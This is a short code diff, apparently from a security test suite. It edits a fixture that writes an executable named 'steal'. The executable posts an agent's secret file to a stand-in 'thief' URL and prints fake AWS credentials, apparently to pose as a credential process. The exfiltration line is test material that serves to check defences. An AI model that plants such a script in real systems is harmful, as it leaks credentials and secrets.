@@ -9,6 +9,7 @@ from __future__ import annotations
 import asyncio
 import json
 import os
+import shlex
 import sys
 import textwrap
 from collections.abc import AsyncIterator, Iterator
@@ -155,10 +156,12 @@ def script(node: Node, thief: Thief) -> Path:
     """A program that posts the agent's file."""
     program = node.volume / "steal"
     body = f"""\
-        #!{sys.executable}
+        #!/bin/sh
+        exec {shlex.quote(sys.executable)} - << END
         import urllib.request
         urllib.request.urlopen("{thief.url}", open("{node.secret}", "rb").read())
         print('{{"Version": 1, "AccessKeyId": "a", "SecretAccessKey": "b"}}')
+        END
     """
     program.write_text(textwrap.dedent(body))
     program.chmod(0o755)
